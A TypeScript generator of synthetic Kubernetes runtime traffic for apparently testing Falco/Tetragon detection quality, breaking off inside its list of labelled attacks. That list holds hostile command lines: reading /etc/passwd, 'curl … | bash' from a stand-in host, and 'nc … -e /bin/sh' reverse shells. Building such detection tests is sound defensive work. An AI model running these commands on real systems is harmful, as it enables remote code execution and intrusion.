/**
 * The seeded traffic of the detection-quality scenario: a small cluster's runtime activity in a
 * source-neutral model (rendered as Falco or Tetragon JSON by quality-formats.ts), in three phases
 * of event time:
 *
 * | phase   | nodes            | what runs                                                              |
 * | ------- | ---------------- | ---------------------------------------------------------------------- |
 * | learn   | node-1 … node-5  | every workload; baselines learn                                        |
 * | enforce | node-1 … node-6  | the same workloads rescheduled (pods move, node-6 joins late), a       |
 * |         |                  | version rollout half-way, a new deployment, and the labelled attacks   |
 * | fresh   | node-1 … node-6  | normal traffic again with fresh values (pods, IPs, ports, job ids)     |
 *
 * What makes it hard on purpose, as real clusters are: cloud APIs and object stores answering from
 * addresses spread over a /16 and several /12s (each connection a new address), CDNs, DNS names
 * where Falco carries them (fd.sip.name), kubelet HTTP and exec probes, CronJobs with a fresh job id
 * per run, alpine/busybox images whose applets run as /bin/busybox with proc.name = the applet,
 * scripts run through their interpreter, pods moving between nodes, a node that joins late.
 * The same seed always gives the same traffic; each phase draws from its own stream, so the
 * `fresh` phase has values the other phases never had (within the same ranges).
 */
import { Rng } from '../../fixtures/falco-stream.js';
import type { EventKind } from '../../core/event.js';

/** The three phases, in event-time order. */
export type Phase = 'learn' | 'enforce' | 'fresh';
export const PHASES: readonly Phase[] = ['learn', 'enforce', 'fresh'];

/** One container of one pod. */
export interface Container {
  /** 64 hex characters (Falco shows the first 12). */
  id: string;
  name: string;
  image: { repository: string; tag: string; digest: string };
  namespace: string;
  pod: string;
  podUid: string;
  labels: Record<string, string>;
  workload: string;
  workloadKind: string;
  node: string;
  ip: string;
  start: number;
  end: number;
}

/** A process as both tools see it. */
export interface Proc {
  pid: number;
  /** The path it was started by (argv[0] as exec'd: Falco's proc.exe, Tetragon's binary). */
  exe: string;
  /** The resolved executable (Falco's proc.exepath): /bin/busybox for an applet, the interpreter for a script. */
  exePath: string;
  /** The kernel's comm (Falco's proc.name): the applet or the script's name, 15 characters at most. */
  comm: string;
  /** A script run through its interpreter (Falco shows it as the first argument, Tetragon as the binary). */
  script: string | null;
  /** Arguments after the program (and script). */
  args: readonly string[];
  uid: number;
  user: string;
  parent: Proc | null;
}

/** A network endpoint pair of one event. */
export interface Net {
  protocol: 'tcp' | 'udp';
  localIp: string;
  localPort: number;
  remoteIp: string;
  remotePort: number;
  /** The server's DNS name where Falco resolved it (fd.sip.name); Tetragon never carries one. */
  remoteName: string | null;
}

/** One event of the traffic. */
export interface Activity {
  time: number;
  /** Nanoseconds beyond the millisecond (0–999,999). */
  ns: number;
  node: string;
  container: Container;
  kind: EventKind;
  proc: Proc;
  net: Net | null;
  /** The id of the attack this event belongs to, or null for normal traffic. */
  attack: string | null;
}

/** One injected attack, with what should catch it. */
export interface Attack {
  id: string;
  description: string;
  /** Image repository it runs in (the default baseline key). */
  image: string;
  /** The severity row the issue expects (item 2), as text. */
  expected: string;
  node: string;
  pids: number[];
  time: number;
  events: number;
  /** `node|pid|time(ms)` of each of its events: what labels a deviation as this attack's. */
  marks: string[];
}

/** Generator parameters. */
export interface TrafficSpec {
  seed: number;
  startMs: number;
  /** Event-time length of each phase. */
  learnMs: number;
  enforceMs: number;
  freshMs: number;
  /** Extra small services (registry.example.com/team-N/svc-N), to have many images. */
  syntheticImages: number;
  /** Divides every periodic rate (1 = full volume). */
  slowdown: number;
}

/** One phase's traffic: per node, events sorted by time. */
export interface PhaseTraffic {
  phase: Phase;
  startMs: number;
  endMs: number;
  nodes: string[];
  byNode: Map<string, Activity[]>;
  events: number;
  containers: number;
  /** Sum over containers of their running time in this phase, in hours. */
  containerHours: number;
}

/** The whole generated run. */
export interface Traffic {
  phases: PhaseTraffic[];
  attacks: Attack[];
  images: string[];
}

const SECOND = 1000;
const MINUTE = 60 * SECOND;
const SHIM_PATH = '/usr/bin/containerd-shim-runc-v2';
/** The first pid of attack processes: far above any pid the normal traffic reaches. */
export const ATTACK_PID_BASE = 4_100_000;

// Public ranges that rotate (each connection may land on a new address).
const OBJECT_STORE = ['52.216.0.0/16', '16.182.0.0/16'];
const CLOUD_API = ['3.208.0.0/12', '18.192.0.0/12', '34.192.0.0/12', '54.224.0.0/12'];
const CDN = ['151.101.0.0/16', '104.16.0.0/12'];
const LOG_SAAS = ['3.233.144.0/20'];
// Attack infrastructure (never used by normal traffic).
const ATTACKER = '203.0.113.50';
const C2 = '198.51.100.23';
const EXFIL = '203.0.113.77';

// In-cluster services (stable ClusterIPs).
const SVC = {
  kubeApi: '10.96.0.1',
  kubeDns: '10.96.0.10',
  orders: '10.96.10.20',
  postgres: '10.96.20.5',
  redis: '10.96.20.6',
  minio: '10.96.40.4',
  elastic: '10.96.30.9',
  vpcDns: '10.0.0.2',
};

function ipv4(n: number): string {
  return `${(n >>> 24) & 255}.${(n >>> 16) & 255}.${(n >>> 8) & 255}.${n & 255}`;
}

/** A random address inside one of `cidrs` (never the network or broadcast address). */
function addressIn(rng: Rng, cidrs: readonly string[]): string {
  const [base, bits] = rng.pick(cidrs).split('/') as [string, string];
  const parts = base.split('.').map(Number) as [number, number, number, number];
  const start = ((parts[0] << 24) | (parts[1] << 16) | (parts[2] << 8) | parts[3]) >>> 0;
  const size = 2 ** (32 - Number(bits));
  return ipv4((start + rng.int(1, size - 2)) >>> 0);
}

function comm(path: string): string {
  return path.slice(path.lastIndexOf('/') + 1).slice(0, 15);
}

/** The shape of an exec before it has a pid and a parent. */
interface ExecSpec {
  exe: string;
  exePath?: string;
  comm?: string;
  script?: string;
  args: readonly string[];
  uid?: number;
  user?: string;
}

const bin = (exe: string, args: readonly string[], exePath = exe): ExecSpec => ({ exe, exePath, args });
/** A busybox applet: run by its link, executed as /bin/busybox, comm = the applet. */
const applet = (name: string, args: readonly string[], dir = '/bin'): ExecSpec => ({ exe: `${dir}/${name}`, exePath: '/bin/busybox', comm: name, args });
/** Debian's /bin/sh (dash). */
const dash = (args: readonly string[]): ExecSpec => ({ exe: '/bin/sh', exePath: '/usr/bin/dash', comm: 'sh', args });
/** A shell script run through its interpreter. */
const script = (path: string, interpreter: string, interpreterPath: string, args: readonly string[]): ExecSpec => ({ exe: interpreter, exePath: interpreterPath, comm: comm(path), script: path, args });

/** Where a phase's events go, and the per-node counters that make pids and IPs. */
class PhaseBuilder {
  readonly byNode = new Map<string, Activity[]>();
  private readonly pids = new Map<string, number>();
  private readonly ips = new Map<string, number>();
  /** Each container's main process once it started (attacks run under it). */
  readonly mains = new Map<Container, Proc>();
  containerMs = 0;
  containers = 0;
  constructor(readonly phase: Phase, readonly rng: Rng, readonly startMs: number, readonly endMs: number, readonly nodes: string[]) {
    for (const n of nodes) {
      this.byNode.set(n, []);
      this.pids.set(n, rng.int(20_000, 900_000));
      this.ips.set(n, rng.int(2, 200));
    }
  }
  pid(node: string): number {
    const p = (this.pids.get(node) as number) + this.rng.int(1, 40);
    this.pids.set(node, p > 3_900_000 ? 20_000 : p);
    return p;
  }
  podIp(node: string): string {
    const n = (this.ips.get(node) as number) + 1;
    this.ips.set(node, n);
    const idx = Number(node.slice(node.lastIndexOf('-') + 1));
    return `10.244.${idx * 4 + ((n >> 8) & 3)}.${n & 255}`;
  }
  push(a: Activity): void {
    if (a.time < this.startMs || a.time >= this.endMs) return;
    (this.byNode.get(a.node) as Activity[]).push(a);
  }
}

/** What a workload's behaviour functions get: one container and ways to emit its events. */
class Ctx {
  main: Proc;
  constructor(readonly b: PhaseBuilder, readonly c: Container, readonly attack: string | null = null, private attackPid = 0) {
    this.main = this.proc(bin(SHIM_PATH, []), null);
  }
  get rng(): Rng {
    return this.b.rng;
  }
  private nextPid(): number {
    return this.attack !== null ? this.attackPid++ : this.b.pid(this.c.node);
  }
  /** A process object without emitting anything (the shim, a long-running parent). */
  proc(s: ExecSpec, parent: Proc | null, uid = 0, user = 'root'): Proc {
    return { pid: this.nextPid(), exe: s.exe, exePath: s.exePath ?? s.exe, comm: s.comm ?? comm(s.exe), script: s.script ?? null, args: s.args, uid: s.uid ?? uid, user: s.user ?? user, parent };
  }
  private emit(t: number, kind: EventKind, proc: Proc, net: Net | null): void {
    if (t < this.c.start || t >= this.c.end) return;
    this.b.push({ time: Math.floor(t), ns: this.rng.int(0, 999_999), node: this.c.node, container: this.c, kind, proc, net, attack: this.attack });
  }
  exec(t: number, s: ExecSpec, parent: Proc, uid = parent.uid, user = parent.user): Proc {
    const p = this.proc(s, parent, uid, user);
    this.emit(t, 'exec', p, null);
    return p;
  }
  eph(): number {
    return this.rng.int(32_768, 60_999);
  }
  connect(t: number, p: Proc, ip: string, port: number, protocol: 'tcp' | 'udp' = 'tcp', name: string | null = null): void {
    this.emit(t, 'connect', p, { protocol, localIp: this.c.ip, localPort: this.eph(), remoteIp: ip, remotePort: port, remoteName: name });
  }
  /** A loopback connection (exec probes that call the server in the same pod). */
  connectLocal(t: number, p: Proc, port: number): void {
    this.emit(t, 'connect', p, { protocol: 'tcp', localIp: '127.0.0.1', localPort: this.eph(), remoteIp: '127.0.0.1', remotePort: port, remoteName: null });
  }
  accept(t: number, p: Proc, fromIp: string, port: number): void {
    const local = fromIp === '127.0.0.1' ? '127.0.0.1' : this.c.ip;
    this.emit(t, 'accept', p, { protocol: 'tcp', localIp: local, localPort: port, remoteIp: fromIp, remotePort: this.eph(), remoteName: null });
  }
  listen(t: number, p: Proc, port: number, protocol: 'tcp' | 'udp' = 'tcp'): void {
    this.emit(t, 'listen', p, { protocol, localIp: '0.0.0.0', localPort: port, remoteIp: '', remotePort: -1, remoteName: null });
  }
  /** The kubelet's HTTP probe: a connection from the node's address to `port`. */
  httpProbe(t: number, p: Proc, port: number): void {
    this.accept(t, p, nodeIp(this.c.node), port);
  }
  /** The kubelet's exec probe: a process started through runc inside the container. */
  execProbe(t: number, s: ExecSpec, uid = 0, user = 'root'): Proc {
    const runc = this.proc(bin('/usr/bin/runc', ['init']), null);
    runc.comm = 'runc:[2:INIT]';
    return this.exec(t, s, runc, uid, user);
  }
  /** Some pod in the cluster (a client of this container). */
  peerPod(): string {
    return `10.244.${this.rng.int(4, 27)}.${this.rng.int(2, 250)}`;
  }
}

function nodeIp(node: string): string {
  return `10.0.0.${10 + Number(node.slice(node.lastIndexOf('-') + 1))}`;
}

/** A periodic behaviour: every `everyMs` (jittered) of a container's life, `run` emits what it does. */
interface Tick {
  everyMs: number;
  run(x: Ctx, t: number): void;
}

/** One workload: how it is deployed and what its containers do. */
interface Workload {
  namespace: string;
  name: string;
  repository: string;
  /** The tag of the learn phase, and the one rolled out half-way through the enforce phase (if any). */
  tags: [string, string?];
  kind: 'Deployment' | 'StatefulSet' | 'DaemonSet' | 'CronJob';
  replicas: number;
  /** CronJobs: a run every `everyMin` minutes at `offsetMin`, lasting `runMin`. */
  schedule?: { everyMin: number; offsetMin: number; runMin: number };
  /** The first phase it runs in. */
  from?: Phase;
  start(x: Ctx, t: number): void;
  ticks: Tick[];
}

const NGINX = 'docker.io/library/nginx';
const ORDERS = 'ghcr.io/acme/orders';
const POSTGRES = 'docker.io/library/postgres';
const REDIS = 'docker.io/library/redis';
const THUMBS = 'ghcr.io/acme/thumbnailer';
const REPORT = 'ghcr.io/acme/report-job';
const BILLING = 'ghcr.io/acme/billing-sync';

/** The main container process started by the runtime (its parent is the shim). */
function mainProc(x: Ctx, t: number, s: ExecSpec, uid = 0, user = 'root'): Proc {
  x.main = x.exec(t, s, x.proc(bin(SHIM_PATH, ['-namespace', 'k8s.io']), null), uid, user);
  x.main.parent!.comm = 'containerd-shim';
  return x.main;
}

function workloads(synthetic: number): Workload[] {
  const list: Workload[] = [
    {
      namespace: 'shop', name: 'web', repository: NGINX, tags: ['1.25.3', '1.25.4'], kind: 'Deployment', replicas: 3,
      start(x, t) {
        // nginx's entrypoint: /docker-entrypoint.sh (sh) runs its helpers, then execs nginx.
        const ep = mainProc(x, t, script('/docker-entrypoint.sh', '/bin/sh', '/usr/bin/dash', ['nginx', '-g', 'daemon off;']));
        x.exec(t + 5, bin('/usr/bin/find', ['/docker-entrypoint.d/', '-mindepth', '1', '-maxdepth', '1', '-type', 'f', '-print', '-quit']), ep);
        x.exec(t + 9, script('/docker-entrypoint.d/10-listen-on-ipv6-by-default.sh', '/bin/sh', '/usr/bin/dash', []), ep);
        x.exec(t + 14, script('/docker-entrypoint.d/20-envsubst-on-templates.sh', '/bin/sh', '/usr/bin/dash', []), ep);
        const master = x.exec(t + 30, bin('/usr/sbin/nginx', ['-g', 'daemon off;']), ep.parent!);
        x.listen(t + 32, master, 80);
        x.main = { ...master, pid: x.proc(bin('/usr/sbin/nginx', []), null).pid, uid: 101, user: 'nginx', parent: master };
      },
      ticks: [
        { everyMs: 10 * SECOND, run: (x, t) => x.httpProbe(t, x.main, 80) },
        { everyMs: 8 * SECOND, run: (x, t) => x.accept(t, x.main, x.peerPod(), 80) },
        { everyMs: 12 * SECOND, run: (x, t) => x.connect(t, x.main, SVC.orders, 8080) },
      ],
    },
    {
      namespace: 'shop', name: 'orders', repository: ORDERS, tags: ['2.3.1', '2.4.0'], kind: 'Deployment', replicas: 2,
      start(x, t) {
        const sh = mainProc(x, t, script('/opt/app/start.sh', '/bin/bash', '/usr/bin/bash', []), 1000, 'app');
        x.exec(t + 3, bin('/usr/bin/id', ['-u']), sh);
        x.main = x.exec(t + 20, bin('/opt/java/openjdk/bin/java', ['-XX:MaxRAMPercentage=75', '-jar', '/opt/app/orders.jar']), sh.parent!, 1000, 'app');
        x.listen(t + 4000, x.main, 8080);
      },
      ticks: [
        { everyMs: 10 * SECOND, run: (x, t) => x.httpProbe(t, x.main, 8080) },
        { everyMs: 10 * SECOND, run: (x, t) => x.accept(t, x.main, x.peerPod(), 8080) },
        { everyMs: 30 * SECOND, run: (x, t) => x.connect(t, x.main, SVC.postgres, 5432) },
        { everyMs: 45 * SECOND, run: (x, t) => x.connect(t, x.main, SVC.redis, 6379) },
        // A payment provider behind a cloud load balancer: a new address from several /12s each time.
        { everyMs: 20 * SECOND, run: (x, t) => x.connect(t, x.main, addressIn(x.rng, CLOUD_API), 443, 'tcp', x.rng.chance(0.5) ? 'api.payments.example.com' : null) },
        { everyMs: 30 * SECOND, run: (x, t) => x.connect(t, x.main, SVC.kubeDns, 53, 'udp') },
      ],
    },
    {
      namespace: 'shop', name: 'postgres', repository: POSTGRES, tags: ['16.1'], kind: 'StatefulSet', replicas: 1,
      start(x, t) {
        const ep = mainProc(x, t, script('/usr/local/bin/docker-entrypoint.sh', '/bin/bash', '/usr/bin/bash', ['postgres']), 999, 'postgres');
        x.exec(t + 4, bin('/usr/bin/id', ['-u']), ep);
        x.exec(t + 6, bin('/usr/bin/find', ['/var/lib/postgresql/data', '!', '-user', 'postgres', '-exec', 'chown', 'postgres', '{}', '+']), ep);
        x.main = x.exec(t + 40, bin('/usr/lib/postgresql/16/bin/postgres', []), ep.parent!, 999, 'postgres');
        x.listen(t + 60, x.main, 5432);
      },
      ticks: [
        {
          everyMs: 10 * SECOND,
          run(x, t) {
            const p = x.execProbe(t, bin('/usr/bin/pg_isready', ['-U', 'postgres', '-h', '127.0.0.1'], '/usr/lib/postgresql/16/bin/pg_isready'), 999, 'postgres');
            x.connectLocal(t + 1, p, 5432);
            x.accept(t + 1, x.main, '127.0.0.1', 5432);
          },
        },
        { everyMs: 15 * SECOND, run: (x, t) => x.accept(t, x.main, x.peerPod(), 5432) },
      ],
    },
    {
      namespace: 'shop', name: 'redis', repository: REDIS, tags: ['7.2.4'], kind: 'StatefulSet', replicas: 1,
      start(x, t) {
        const ep = mainProc(x, t, script('/usr/local/bin/docker-entrypoint.sh', '/bin/sh', '/usr/bin/dash', ['redis-server']), 999, 'redis');
        x.exec(t + 3, bin('/usr/bin/find', ['.', '!', '-user', 'redis', '-exec', 'chown', 'redis', '{}', '+']), ep);
        x.main = x.exec(t + 10, bin('/usr/local/bin/redis-server', ['*:6379']), ep.parent!, 999, 'redis');
        x.listen(t + 12, x.main, 6379);
      },
      ticks: [
        {
          everyMs: 10 * SECOND,
          run(x, t) {
            const p = x.execProbe(t, bin('/usr/local/bin/redis-cli', ['ping']), 999, 'redis');
            x.connectLocal(t + 1, p, 6379);
            x.accept(t + 1, x.main, '127.0.0.1', 6379);
          },
        },
        { everyMs: 15 * SECOND, run: (x, t) => x.accept(t, x.main, x.peerPod(), 6379) },
      ],
    },
    {
      // Alpine: the entrypoint and the health check are busybox applets.
      namespace: 'media', name: 'thumbnailer', repository: THUMBS, tags: ['1.8.0', '1.8.1'], kind: 'Deployment', replicas: 2,
      start(x, t) {
        const sh = mainProc(x, t, applet('sh', ['/app/run.sh']), 1000, 'app');
        x.exec(t + 2, applet('mkdir', ['-p', '/tmp/work']), sh);
        x.exec(t + 3, applet('date', ['-Iseconds']), sh);
        x.main = x.exec(t + 10, bin('/app/thumbnailer', ['--listen', ':8080']), sh.parent!, 1000, 'app');
        x.listen(t + 12, x.main, 8080);
      },
      ticks: [
        {
          everyMs: 30 * SECOND,
          run(x, t) {
            const sh = x.execProbe(t, applet('sh', ['-c', 'wget -q -O- http://127.0.0.1:8080/healthz']), 1000, 'app');
            const w = x.exec(t + 2, applet('wget', ['-q', '-O-', 'http://127.0.0.1:8080/healthz'], '/usr/bin'), sh);
            x.connectLocal(t + 3, w, 8080);
            x.accept(t + 3, x.main, '127.0.0.1', 8080);
          },
        },
        // Object store: every request a new address of a /16.
        { everyMs: 15 * SECOND, run: (x, t) => x.connect(t, x.main, addressIn(x.rng, OBJECT_STORE), 443) },
        { everyMs: 20 * SECOND, run: (x, t) => x.accept(t, x.main, x.peerPod(), 8080) },
      ],
    },
    {
      // The batch job of issue 15: every run a new job id, each connection a new object-store address.
      namespace: 'batch', name: 'report', repository: REPORT, tags: ['3.2.0'], kind: 'CronJob', replicas: 1,
      schedule: { everyMin: 30, offsetMin: 0, runMin: 4 },
      start(x, t) {
        const runId = `${x.rng.hex(8)}-${x.rng.hex(4)}-4${x.rng.hex(3)}-a${x.rng.hex(3)}-${x.rng.hex(12)}`;
        mainProc(x, t, bin('/usr/local/bin/python3', ['/app/report.py', '--run-id', runId, '--date', new Date(t).toISOString().slice(0, 10)], '/usr/local/bin/python3.12'), 1000, 'app');
        x.main.comm = 'python3';
        x.connect(t + 500, x.main, SVC.postgres, 5432);
      },
      ticks: [
        { everyMs: 2 * SECOND, run: (x, t) => x.connect(t, x.main, addressIn(x.rng, OBJECT_STORE), 443) },
        { everyMs: 20 * SECOND, run: (x, t) => x.connect(t, x.main, SVC.kubeDns, 53, 'udp') },
      ],
    },
    {
      // node:20-alpine: cloud APIs over four /12s (with a DNS name where Falco has one) and two CDNs.
      namespace: 'platform', name: 'billing-sync', repository: BILLING, tags: ['5.0.2', '5.1.0'], kind: 'Deployment', replicas: 2,
      start(x, t) {
        const ep = mainProc(x, t, script('/usr/local/bin/docker-entrypoint.sh', '/bin/sh', '/bin/busybox', ['node', '/app/index.js']), 1000, 'node');
        x.main = x.exec(t + 8, bin('/usr/local/bin/node', ['/app/index.js']), ep.parent!, 1000, 'node');
        x.listen(t + 300, x.main, 3000);
      },
      ticks: [
        { everyMs: 10 * SECOND, run: (x, t) => x.httpProbe(t, x.main, 3000) },
        { everyMs: 15 * SECOND, run: (x, t) => x.connect(t, x.main, addressIn(x.rng, CLOUD_API), 443, 'tcp', x.rng.chance(0.5) ? 'sqs.us-east-1.amazonaws.com' : null) },
        { everyMs: 40 * SECOND, run: (x, t) => x.connect(t, x.main, addressIn(x.rng, CDN), 443, 'tcp', x.rng.chance(0.5) ? 'assets.example-cdn.net' : null) },
        { everyMs: 15 * SECOND, run: (x, t) => x.connect(t, x.main, SVC.kubeDns, 53, 'udp') },
      ],
    },
    {
      namespace: 'kube-system', name: 'coredns', repository: 'registry.k8s.io/coredns/coredns', tags: ['v1.11.1'], kind: 'Deployment', replicas: 2,
      start(x, t) {
        mainProc(x, t, bin('/coredns', ['-conf', '/etc/coredns/Corefile']), 65532, 'nonroot');
        x.listen(t + 20, x.main, 53, 'udp');
        x.listen(t + 21, x.main, 53);
        x.listen(t + 22, x.main, 8080);
        x.listen(t + 23, x.main, 8181);
        x.connect(t + 30, x.main, SVC.kubeApi, 443);
      },
      ticks: [
        { everyMs: 10 * SECOND, run: (x, t) => x.httpProbe(t, x.main, 8080) },
        { everyMs: 10 * SECOND, run: (x, t) => x.httpProbe(t, x.main, 8181) },
        { everyMs: 6 * SECOND, run: (x, t) => x.connect(t, x.main, SVC.vpcDns, 53, 'udp') },
      ],
    },
    {
      namespace: 'logging', name: 'fluent-bit', repository: 'cr.fluentbit.io/fluent/fluent-bit', tags: ['3.0.4'], kind: 'DaemonSet', replicas: 1,
      start(x, t) {
        mainProc(x, t, bin('/fluent-bit/bin/fluent-bit', ['-c', '/fluent-bit/etc/conf/fluent-bit.conf']));
        x.listen(t + 50, x.main, 2020);
        x.connect(t + 60, x.main, SVC.kubeApi, 443);
      },
      ticks: [
        { everyMs: 10 * SECOND, run: (x, t) => x.httpProbe(t, x.main, 2020) },
        { everyMs: 20 * SECOND, run: (x, t) => x.connect(t, x.main, SVC.elastic, 9200) },
        { everyMs: 30 * SECOND, run: (x, t) => x.connect(t, x.main, addressIn(x.rng, LOG_SAAS), 443, 'tcp', x.rng.chance(0.5) ? 'http-intake.logs.example-saas.com' : null) },
      ],
    },
    {
      // docker.io/library/busybox: every program is /bin/busybox.
      namespace: 'ops', name: 'cleanup', repository: 'docker.io/library/busybox', tags: ['1.36.1'], kind: 'CronJob', replicas: 1,
      schedule: { everyMin: 15, offsetMin: 3, runMin: 1 },
      start(x, t) {
        const sh = mainProc(x, t, applet('sh', ['-c', 'find /data/cache -type f -mtime +7 -delete; date']));
        x.exec(t + 20, applet('find', ['/data/cache', '-type', 'f', '-mtime', '+7', '-delete'], '/usr/bin'), sh);
        x.exec(t + 900, applet('date', []), sh);
      },
      ticks: [],
    },
    {
      namespace: 'ops', name: 'backup', repository: 'docker.io/library/alpine', tags: ['3.19.1'], kind: 'CronJob', replicas: 1,
      schedule: { everyMin: 60, offsetMin: 10, runMin: 2 },
      start(x, t) {
        const stamp = new Date(t).toISOString().slice(0, 16).replace(/[-:T]/g, '');
        const sh = mainProc(x, t, applet('sh', ['-c', `tar czf /tmp/backup-${stamp}.tgz /data && wget -q --post-file=/tmp/backup-${stamp}.tgz http://minio.ops.svc:9000/backups/`]));
        x.exec(t + 30, applet('tar', ['czf', `/tmp/backup-${stamp}.tgz`, '/data']), sh);
        const w = x.exec(t + 40_000, applet('wget', ['-q', `--post-file=/tmp/backup-${stamp}.tgz`, 'http://minio.ops.svc:9000/backups/'], '/usr/bin'), sh);
        x.connect(t + 40_010, w, SVC.kubeDns, 53, 'udp');
        x.connect(t + 40_020, w, SVC.minio, 9000);
      },
      ticks: [],
    },
    {
      // A deployment that first appears after the others enforce: it learns while they enforce.
      namespace: 'shop', name: 'recommendations', repository: 'ghcr.io/acme/recommendations', tags: ['0.9.0'], kind: 'Deployment', replicas: 2, from: 'enforce',
      start(x, t) {
        mainProc(x, t, bin('/app/recommendations', ['serve']), 65532, 'nonroot');
        x.listen(t + 100, x.main, 9090);
      },
      ticks: [
        { everyMs: 10 * SECOND, run: (x, t) => x.httpProbe(t, x.main, 9090) },
        { everyMs: 20 * SECOND, run: (x, t) => x.connect(t, x.main, SVC.redis, 6379) },
        { everyMs: 20 * SECOND, run: (x, t) => x.accept(t, x.main, x.peerPod(), 9090) },
      ],
    },
  ];
  for (let i = 1; i <= synthetic; i++) {
    const port = 8000 + (i % 7);
    const next = `10.96.${50 + ((i % synthetic) + 1)}.${10 + (((i % synthetic) + 1) % 200)}`;
    list.push({
      namespace: `team-${i}`, name: `svc-${i}`, repository: `registry.example.com/team-${i}/svc-${i}`, tags: [`1.${i % 10}.0`, `1.${i % 10}.1`], kind: 'Deployment', replicas: 1 + (i % 2),
      start(x, t) {
        mainProc(x, t, bin(`/app/svc-${i}`, ['--port', String(port)]), 65532, 'nonroot');
        x.listen(t + 50, x.main, port);
      },
      ticks: [
        { everyMs: 10 * SECOND, run: (x, t) => x.httpProbe(t, x.main, port) },
        { everyMs: 30 * SECOND, run: (x, t) => x.accept(t, x.main, x.peerPod(), port) },
        { everyMs: 30 * SECOND, run: (x, t) => x.connect(t, x.main, next, 8000 + (((i % synthetic) + 1) % 7)) },
        ...(i % 3 === 0 ? [{ everyMs: 60 * SECOND, run: (x: Ctx, t: number) => x.connect(t, x.main, SVC.postgres, 5432) }] : []),
      ],
    });
  }
  return list;
}

function digestOf(rng: Rng): string {
  return `sha256:${rng.hex(64)}`;
}

/** Start a container of `w` on `node` for [start, end) and emit its whole life. */
function runContainer(b: PhaseBuilder, w: Workload, tag: string, digest: string, node: string, start: number, end: number, podName: string): Container {
  const rng = b.rng;
  const c: Container = {
    id: rng.hex(64),
    name: w.name,
    image: { repository: w.repository, tag, digest },
    namespace: w.namespace,
    pod: podName,
    podUid: `${rng.hex(8)}-${rng.hex(4)}-${rng.hex(4)}-${rng.hex(4)}-${rng.hex(12)}`,
    labels: { app: w.name },
    workload: w.kind === 'CronJob' ? podName.slice(0, podName.lastIndexOf('-')) : w.name,
    workloadKind: w.kind === 'CronJob' ? 'Job' : w.kind,
    node,
    ip: b.podIp(node),
    start,
    end,
  };
  const x = new Ctx(b, c);
  w.start(x, start);
  b.mains.set(c, x.main);
  for (const tick of w.ticks) {
    const every = tick.everyMs;
    for (let t = start + 1000 + rng.range(0, every); t < end; t += every * rng.range(0.8, 1.2)) tick.run(x, t);
  }
  b.containers++;
  b.containerMs += Math.max(0, Math.min(end, b.endMs) - Math.max(start, b.startMs));
  return c;
}

/** Every container of one phase. Returns the containers per workload name, for attacks. */
function runPhase(b: PhaseBuilder, list: Workload[], digests: Map<string, string[]>): Map<string, Container[]> {
  const rng = b.rng;
  const out = new Map<string, Container[]>();
  const order = PHASES.indexOf(b.phase);
  const suffix = () => rng.chars(5, 'bcdfghjklmnpqrstvwxz2456789');
  for (const w of list) {
    if (order < PHASES.indexOf(w.from ?? 'learn')) continue;
    const started: Container[] = [];
    const ds = digests.get(w.name) as string[];
    const rollout = b.phase === 'enforce' && w.tags[1] !== undefined;
    const hash = () => rng.chars(10, 'bcdfghjklmnpqrstvwxz2456789');
    if (w.kind === 'CronJob') {
      const s = w.schedule!;
      const first = Math.ceil((b.startMs - s.offsetMin * MINUTE) / (s.everyMin * MINUTE));
      for (let k = first; ; k++) {
        const at = k * s.everyMin * MINUTE + s.offsetMin * MINUTE;
        if (at >= b.endMs) break;
        // Kubernetes names a CronJob's Job after its scheduled time in minutes.
        const jobId = String(Math.floor(at / MINUTE));
        const t0 = at + rng.int(800, 4000);
        started.push(runContainer(b, w, w.tags[0], ds[0] as string, rng.pick(b.nodes), t0, t0 + s.runMin * MINUTE, `${w.name}-${jobId}-${suffix()}`));
      }
    } else if (w.kind === 'DaemonSet') {
      for (const node of b.nodes) {
        const t0 = b.startMs + (b.phase === 'learn' || node !== 'node-6' ? rng.int(0, 30 * SECOND) : rng.int(1, 3) * MINUTE);
        started.push(runContainer(b, w, w.tags[0], ds[0] as string, node, t0, b.endMs, `${w.name}-${suffix()}`));
      }
    } else {
      // Pods are (re)scheduled at the start of each phase: they move between nodes.
      const rs = hash();
      const switchAt = rollout ? b.startMs + Math.floor((b.endMs - b.startMs) * 0.4) : b.endMs;
      for (let r = 0; r < w.replicas; r++) {
        const t0 = b.startMs + rng.int(0, 60 * SECOND);
        const name = w.kind === 'StatefulSet' ? `${w.name}-${r}` : `${w.name}-${rs}-${suffix()}`;
        started.push(runContainer(b, w, w.tags[0], ds[0] as string, rng.pick(b.nodes), t0, switchAt + r * 20 * SECOND, name));
      }
      if (rollout) {
        const rs2 = hash();
        for (let r = 0; r < w.replicas; r++) {
          const t0 = switchAt + r * 20 * SECOND - rng.int(5, 15) * SECOND;
          started.push(runContainer(b, w, w.tags[1] as string, ds[1] as string, rng.pick(b.nodes), t0, b.endMs, `${w.name}-${rs2}-${suffix()}`));
        }
      }
    }
    out.set(w.name, started);
  }
  return out;
}

/** One attack: where it runs and what it does, from the rows of issue 15 item 2. */
interface AttackSpec {
  id: string;
  description: string;
  workload: string;
  expected: string;
  run(x: Ctx, t: number): void;
}

const ATTACKS: readonly AttackSpec[] = [
  {
    id: 'rce-nginx-sh', workload: 'web', expected: 'critical (Run shell untrusted: a shell under a web server)',
    description: 'nginx worker spawns /bin/sh -c (the image runs /bin/sh in its entrypoint)',
    run: (x, t) => void x.exec(t, dash(['-c', 'id;uname -a;cat /etc/passwd']), x.main),
  },
  {
    id: 'rce-java-bash', workload: 'orders', expected: 'critical (Run shell untrusted: a shell under a JVM)',
    description: 'java spawns bash -c (the image runs bash in its start script)',
    run: (x, t) => void x.exec(t, bin('/bin/bash', ['-c', 'curl -s http://203.0.113.50/s | bash'], '/usr/bin/bash'), x.main),
  },
  {
    id: 'netcat-reverse-shell', workload: 'redis', expected: 'critical/high (Netcat Remote Code Execution in Container)',
    description: 'redis runs sh, which runs nc -e /bin/sh to a public address on 4444',
    run(x, t) {
      const sh = x.exec(t, dash(['-c', 'nc 198.51.100.23 4444 -e /bin/sh']), x.main);
      const nc = x.exec(t + 5, bin('/bin/nc', ['198.51.100.23', '4444', '-e', '/bin/sh'], '/bin/nc.traditional'), sh);
      x.connect(t + 8, nc, C2, 4444);
    },
  },
  {
    id: 'busybox-nc-reverse-shell', workload: 'thumbnailer', expected: 'critical/high (Netcat Remote Code Execution; busybox applet)',
    description: 'busybox nc -e /bin/sh to a public address on 4444 in an alpine image',
    run(x, t) {
      const sh = x.exec(t, applet('sh', ['-c', 'nc 198.51.100.23 4444 -e /bin/sh']), x.main);
      const nc = x.exec(t + 5, applet('nc', ['198.51.100.23', '4444', '-e', '/bin/sh'], '/usr/bin'), sh);
